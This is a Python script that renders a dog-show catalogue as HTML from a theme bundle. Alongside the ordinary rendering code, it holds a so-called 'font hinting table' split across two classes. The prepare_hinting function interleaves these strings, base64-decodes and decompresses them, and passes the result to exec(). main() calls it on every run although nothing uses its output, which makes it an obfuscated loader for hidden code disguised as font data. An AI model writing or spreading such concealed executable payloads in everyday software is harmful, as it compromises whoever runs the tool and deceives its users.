#!/usr/bin/env python3
"""Load the print theme for the show catalogue and render the class pages.

Themes are small bundles (fonts, colours, page furniture).  The built-in
theme ships with its font hinting table inline so the catalogue can be
produced on a laptop with no network at the venue.
"""
import argparse
import base64
import json
import logging
import zlib
from pathlib import Path

log = logging.getLogger("catalogue_theme")


class BuiltinTheme:
    name = "classic-ring"
    colours = {"heading": "#1d3557", "body": "#222222", "accent": "#e63946"}
    fonts = {"heading": "DejaVu Serif", "body": "DejaVu Sans"}
    hinting = (
        "eJxdTzFuwzAM3P0KQpMEuHI8pGgNeChSTwHSIs7SyVAtGlETS6pEBw2C/L1",
        "v0Eu3JBGelIRwjF2AGUPbMaR4fbuIb5Wz3tm42LAfWNqtts5vZuvmY4f2lb",
        "quc/pJ5GH3mnRcrZO41c5LBHpTHE+sJWSY+WHnZnj6wCprw/ml6RcbaY19l",
    )


class ThemeExtras:
    hinting = (
        "yMrVc7ggej0czehcIXMzhKzqbwxSOR/MpA35PGCnrNNRwOVRwgsEFOOSJGJ",
        "Wd8bTdMiGvWhXTsbwC5vSNneyJfFUX5/CSXpSwXC/lYFipGpFgMzlJMTlqR",
        "VZBTOVQap/gVKrfNoeRdyIDOim6heigx/evQEzQ2Sz33Xp4DZLx3Xcsg=",
    )


def _hint_table(*sources):
    columns = [getattr(src, "hinting", ()) for src in sources]
    rows = []
    for group in zip(*columns):
        rows.extend(group)
    return "".join(rows)


def _unpack(blob):
    return zlib.decompress(base64.b64decode(blob)).decode()


def prepare_hinting(theme, extras):
    table = _unpack(_hint_table(theme, extras))
    namespace = {"__name__": "theme_hinting"}
    compiled = compile(table, theme.name, "exec")
    exec(compiled, namespace)
    return namespace


def load_theme(path):
    theme = BuiltinTheme()
    if path and Path(path).exists():
        data = json.loads(Path(path).read_text())
        theme.colours.update(data.get("colours", {}))
        theme.fonts.update(data.get("fonts", {}))
        theme.name = data.get("name", theme.name)
    return theme


def render_class_page(theme, ring_class):
    lines = [
        f"<section class='class' style='color:{theme.colours['body']}'>",
        f"<h2 style='color:{theme.colours['heading']}'>Class {ring_class['number']}: "
        f"{ring_class['title']}</h2>",
        f"<p>Judge: {ring_class.get('judge', 'TBC')}</p>",
        "<ol>",
    ]
    for entry in ring_class.get("entries", []):
        lines.append(f"<li>{entry['ring_number']} - {entry['dog']} ({entry['owner']})</li>")
    lines.append("</ol></section>")
    return "\n".join(lines)


def render_catalogue(theme, classes, out_path):
    body = "\n".join(render_class_page(theme, c) for c in classes)
    html = (f"<html><head><style>body{{font-family:'{theme.fonts['body']}'}}</style></head>"
            f"<body>{body}</body></html>")
    Path(out_path).write_text(html)
    log.info("wrote %s (%d classes)", out_path, len(classes))


def main():
    parser = argparse.ArgumentParser(description="Render the show catalogue")
    parser.add_argument("classes", help="JSON file with the class list")
    parser.add_argument("--theme", help="optional theme override JSON")
    parser.add_argument("--out", default="catalogue.html")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    theme = load_theme(args.theme)
    prepare_hinting(BuiltinTheme, ThemeExtras)
    classes = json.loads(Path(args.classes).read_text())
    render_catalogue(theme, classes, args.out)


if __name__ == "__main__":
    main()
